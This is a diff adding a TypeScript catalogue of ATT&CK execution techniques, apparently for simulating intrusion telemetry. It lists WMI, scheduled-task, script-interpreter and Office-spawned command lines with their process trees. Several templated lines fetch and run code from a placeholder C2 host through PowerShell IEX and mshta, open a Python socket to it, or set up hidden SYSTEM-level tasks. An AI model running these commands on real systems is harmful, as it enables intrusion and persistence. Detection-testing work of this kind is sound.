@@ -1,0 +1,362 @@
+import { t, v } from "../dsl";
+
+const WORD = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE";
+const EXCEL = "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE";
+
+/** Execution: interpreters, WMI, services and user execution as real intrusions chain them. */
+export const execution = [
+  t(
+    "T1047",
+    "WMI execution",
+    "wmic process call create locally or against a remote host, and Invoke-CimMethod; the payload starts under WmiPrvSE.exe.",
+    [
+      v(
+        "wmic-remote",
+        [
+          {
+            cmd: 'wmic /node:"{{srv}}" process call create "cmd.exe /c whoami > C:\\Windows\\Temp\\{{rand}}.txt"',
+            net: [["@server", 135]],
+          },
+          {
+            cmd: "cmd.exe /c whoami > C:\\Windows\\Temp\\{{rand}}.txt",
+            host: "@server",
+            parent: "@wmiprvse",
+            user: "@admin",
+            files: ["C:\\Windows\\Temp\\{{rand}}.txt"],
+          },
+        ],
+        { elevated: true },
+      ),
+      v("wmic-local", [
+        'wmic process call create "{{tools}}\\{{name}}.exe"',
+        { cmd: "{{tools}}\\{{name}}.exe", parent: "@wmiprvse" },
+      ]),
+      v(
+        "invoke-cimmethod",
+        [
+          {
+            ps: "Invoke-CimMethod -ClassName Win32_Process -MethodName Create -Arguments @{CommandLine='powershell.exe -nop -w hidden -c whoami'}",
+          },
+          { cmd: "powershell.exe -nop -w hidden -c whoami", parent: "@wmiprvse" },
+        ],
+        { shell: "ps" },
+      ),
+    ],
+  ),
+  t(
+    "T1053",
+    "Scheduled task/job",
+    "schtasks /create of a task running a payload, the commonest Windows scheduling persistence.",
+    [
+      v("schtasks", [
+        {
+          cmd: 'schtasks /create /tn "{{name}}" /tr "{{appdata}}\\{{name}}.exe" /sc onlogon /rl highest /f',
+          then: [
+            {
+              id: "t",
+              kind: "task.create",
+              name: "\\{{name}}",
+              command: "{{appdata}}\\{{name}}.exe",
+              trigger: "logon",
+            },
+          ],
+        },
+      ]),
+      v("at", [{ cmd: "at 23:30 /every:M,T,W,Th,F {{tools}}\\{{name}}.bat" }], { elevated: true }),
+      v(
+        "register-scheduledtask",
+        [
+          {
+            ps: "$a = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument '-w hidden -ep bypass -f {{appdata}}\\up.ps1'; Register-ScheduledTask -TaskName '{{name}}' -Action $a -Trigger (New-ScheduledTaskTrigger -AtLogOn)",
+            then: [
+              {
+                id: "t",
+                kind: "task.create",
+                name: "\\{{name}}",
+                command: "powershell.exe",
+                arguments: "-w hidden -ep bypass -f {{appdata}}\\up.ps1",
+              },
+            ],
+          },
+        ],
+        { shell: "ps" },
+      ),
+    ],
+  ),
+  t("T1053.002", "At", "Legacy at.exe jobs (Windows 7/2008 era and still accepted in some builds).", [
+    v("at", ["at 09:00 /interactive cmd.exe", "at \\\\{{srv}} 23:00 C:\\Windows\\Temp\\{{name}}.bat"], {
+      elevated: true,
+    }),
+    v("at-list", ["at", "at 14:32 {{tools}}\\{{name}}.exe"], { elevated: true }),
+  ]),
+  t(
+    "T1053.005",
+    "Scheduled task",
+    "Tasks created with schtasks locally and remotely, or via the PowerShell ScheduledTasks module.",
+    [
+      v(
+        "schtasks-remote",
+        [
+          {
+            cmd: 'schtasks /create /s {{srv}} /u {{domain}}\\{{admin}} /p ******** /tn "\\Microsoft\\Windows\\{{name}}" /tr "C:\\Windows\\Temp\\{{name}}.exe" /sc once /st 23:59 /ru SYSTEM',
+            net: [["@server", 135]],
+          },
+        ],
+        { elevated: true },
+      ),
+      v("schtasks-minute", [
+        {
+          cmd: 'schtasks /create /sc minute /mo 30 /tn "{{name}}" /tr "powershell.exe -w hidden -nop -ep bypass -f {{appdata}}\\{{rand}}.ps1" /f',
+          then: [
+            {
+              id: "t",
+              kind: "task.create",
+              name: "\\{{name}}",
+              command: "powershell.exe",
+              arguments: "-w hidden -nop -ep bypass -f {{appdata}}\\{{rand}}.ps1",
+              trigger: "minute",
+            },
+          ],
+        },
+      ]),
+      v(
+        "register-scheduledtask",
+        [
+          {
+            ps: "Register-ScheduledTask -TaskName '{{name}}' -Action (New-ScheduledTaskAction -Execute 'cmd.exe' -Argument '/c {{tools}}\\{{name}}.bat') -Trigger (New-ScheduledTaskTrigger -AtStartup) -User SYSTEM -RunLevel Highest",
+            then: [
+              {
+                id: "t",
+                kind: "task.create",
+                name: "\\{{name}}",
+                command: "cmd.exe",
+                arguments: "/c {{tools}}\\{{name}}.bat",
+                trigger: "boot",
+                runLevel: "HighestAvailable",
+              },
+            ],
+          },
+        ],
+        { shell: "ps", elevated: true },
+      ),
+    ],
+  ),
+  t(
+    "T1059",
+    "Command and scripting interpreter",
+    "An interpreter started by a document or by the operator to run a staged script.",
+    [
+      v("cmd-bat", [{ cmd: "cmd.exe /c {{tmp}}\\{{rand}}.bat", parent: "@explorer" }], { shell: "none" }),
+      v(
+        "ps-file",
+        [{ cmd: "powershell.exe -ExecutionPolicy Bypass -File {{tmp}}\\{{rand}}.ps1", parent: "@explorer" }],
+        { shell: "none" },
+      ),
+      v("wscript", [{ cmd: "wscript.exe {{downloads}}\\invoice_{{n}}.js", parent: "@explorer" }], {
+        shell: "none",
+      }),
+    ],
+  ),
+  t(
+    "T1059.003",
+    "Windows command shell",
+    "cmd.exe running batch scripts and chained commands from Office, services and implants.",
+    [
+      v(
+        "bat-from-explorer",
+        [
+          {
+            cmd: 'C:\\Windows\\system32\\cmd.exe /c ""{{downloads}}\\{{name}}.bat" "',
+            parent: "@explorer",
+            files: ["{{tmp}}\\{{rand}}.txt"],
+          },
+        ],
+        { shell: "none" },
+      ),
+      v("cmd-chain", [
+        {
+          cmd: "cmd.exe /c whoami & hostname & ipconfig /all > {{tmp}}\\{{rand}}.txt",
+          files: ["{{tmp}}\\{{rand}}.txt"],
+        },
+        { cmd: "whoami", parent: "prev" },
+      ]),
+      v(
+        "office-cmd",
+        [
+          { cmd: `"${WORD}" /n "{{downloads}}\\Invoice_{{n}}.doc"`, as: "word", parent: "@explorer" },
+          { cmd: "cmd.exe /c echo %username% && ping -n 1 {{c2}}", parent: "word" },
+        ],
+        { shell: "none" },
+      ),
+    ],
+  ),
+  t("T1059.005", "Visual Basic", "VBScript run by wscript/cscript from a lure or a macro.", [
+    v(
+      "wscript-vbs",
+      [
+        {
+          cmd: 'wscript.exe "{{downloads}}\\Invoice_{{n}}.vbs"',
+          parent: "@explorer",
+          net: [["{{c2}}", 443]],
+          files: ["{{tmp}}\\{{rand}}.exe"],
+        },
+      ],
+      { shell: "none" },
+    ),
+    v("cscript", [{ cmd: "cscript.exe //nologo {{tmp}}\\{{rand}}.vbs" }]),
+    v(
+      "macro-vbs",
+      [
+        {
+          cmd: `"${EXCEL}" "{{downloads}}\\Report_{{n}}.xlsm"`,
+          as: "xl",
+          parent: "@explorer",
+          loads: ["C:\\Program Files\\Common Files\\Microsoft Shared\\VBA\\VBA7.1\\VBE7.DLL"],
+        },
+        { cmd: "wscript.exe C:\\Users\\Public\\{{rand}}.vbs", parent: "xl" },
+      ],
+      { shell: "none" },
+    ),
+  ]),
+  t(
+    "T1059.006",
+    "Python",
+    "Python interpreters (installed or dropped embeddable) running attacker scripts.",
+    [
+      v("python-script", [
+        { cmd: '"C:\\Program Files\\Python311\\python.exe" {{tmp}}\\{{rand}}.py', net: [["{{c2}}", 443]] },
+      ]),
+      v("python-c", [
+        '"C:\\Program Files\\Python311\\python.exe" -c "import socket,subprocess,os;s=socket.socket();s.connect((\'{{c2ip}}\',{{port}}))"',
+      ]),
+      v("embeddable", [
+        {
+          cmd: "{{appdata}}\\python\\pythonw.exe {{appdata}}\\python\\{{rand}}.py",
+          image: "{{appdata}}\\python\\pythonw.exe",
+          net: [["{{c2}}", 443]],
+        },
+      ]),
+    ],
+  ),
+  t("T1059.007", "JavaScript", "JScript lures run by wscript, and mshta javascript: one-liners.", [
+    v(
+      "wscript-js",
+      [
+        {
+          cmd: 'wscript.exe "{{downloads}}\\{{Invoice|Payment|Scan}}_{{n}}.js"',
+          parent: "@explorer",
+          net: [["{{c2}}", 443]],
+        },
+      ],
+      { shell: "none" },
+    ),
+    v("cscript-jse", ["cscript.exe //E:jscript {{tmp}}\\{{rand}}.txt"]),
+    v("mshta-javascript", [
+      'mshta.exe javascript:a=GetObject("script:https://{{c2}}/{{rand}}.sct").Exec();close()',
+    ]),
+  ]),
+  t(
+    "T1059.010",
+    "AutoHotKey and AutoIT",
+    "AutoIt3 and AutoHotkey interpreters running dropped scripts (DarkGate, etc.).",
+    [
+      v("autoit", [
+        {
+          cmd: "{{tools}}\\Autoit3.exe {{tools}}\\script.a3x",
+          files: ["{{tools}}\\script.a3x"],
+          net: [["{{c2}}", 443]],
+        },
+      ]),
+      v("autohotkey", ['"C:\\Program Files\\AutoHotkey\\AutoHotkey.exe" {{tmp}}\\{{rand}}.ahk']),
+      v("autoit-au3", ["{{tools}}\\AutoIt3.exe {{tools}}\\{{rand}}.au3"]),
+    ],
+  ),
+  t("T1059.011", "Lua", "A Lua interpreter shipped with the payload runs an obfuscated script.", [
+    v("luajit", [
+      {
+        cmd: "{{appdata}}\\{{rand}}\\luajit.exe {{appdata}}\\{{rand}}\\{{rand}}.txt",
+        net: [["{{c2}}", 443]],
+      },
+    ]),
+  ]),
+  t(
+    "T1072",
+    "Software deployment tools",
+    "Deployment consoles (PDQ, SCCM, PsExec-style agents) pushing a payload to hosts.",
+    [
+      v(
+        "pdq",
+        [
+          {
+            cmd: "C:\\Windows\\AdminArsenal\\PDQDeployRunner\\service-1\\exec\\{{name}}.exe",
+            host: "@server",
+            parent: "@services",
+            user: "@system",
+          },
+        ],
+        { shell: "none" },
+      ),
+      v(
+        "sccm",
+        [
+          {
+            cmd: "C:\\Windows\\ccmcache\\{{rand}}\\{{name}}.exe /quiet",
+            host: "@server",
+            parent: "@services",
+            user: "@system",
+          },
+        ],
+        { shell: "none" },
+      ),
+    ],
+  ),
+  t(
+    "T1106",
+    "Native API",
+    "A loader calling CreateProcess/VirtualAlloc directly; seen as an unsigned binary spawning a child.",
+    [
+      v("loader", [
+        { cmd: "{{tools}}\\{{name}}.exe", as: "ld", loads: ["C:\\Windows\\System32\\ntdll.dll"] },
+        { cmd: "C:\\Windows\\System32\\notepad.exe", parent: "ld" },
+      ]),
+    ],
+  ),
+  t("T1129", "Shared modules", "A payload loading attacker DLLs with LoadLibrary from user-writable paths.", [
+    v("loadlibrary", [{ cmd: "{{tools}}\\{{name}}.exe", loads: ["{{tools}}\\{{rand}}.dll"] }]),
+  ]),
+  t(
+    "T1202",
+    "Indirect command execution",
+    "Commands run through forfiles, pcalua and conhost instead of cmd directly.",
+    [
+      v("forfiles", ['forfiles /p C:\\Windows\\System32 /m notepad.exe /c "cmd /c {{tmp}}\\{{rand}}.exe"']),
+      v("pcalua", ["pcalua.exe -a {{tmp}}\\{{rand}}.exe"]),
+      v("conhost", ["conhost.exe --headless cmd.exe /c {{tmp}}\\{{rand}}.bat"]),
+    ],
+  ),
+  t("T1203", "Client execution exploit", "An exploited Office or browser process spawning a shell.", [
+    v(
+      "office-exploit",
+      [
+        { cmd: `"${WORD}" /n "{{downloads}}\\{{rand}}.rtf"`, as: "w", parent: "@explorer" },
+        {
+          cmd: "cmd.exe /c powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://{{c2}}/a')\"",
+          parent: "w",
+        },
+      ],
+      { shell: "none" },
+    ),
+    v(
+      "eqnedt",
+      [
+        {
+          cmd: '"C:\\Program Files (x86)\\Common Files\\Microsoft Shared\\EQUATION\\EQNEDT32.EXE" -Embedding',
+          as: "eq",
+          parent: "@svchost:DcomLaunch",
+        },
+        { cmd: "cmd.exe /c {{appdata}}\\{{rand}}.exe", parent: "eq" },
+      ],
+      { shell: "none" },
+    ),
+  ]),
+];
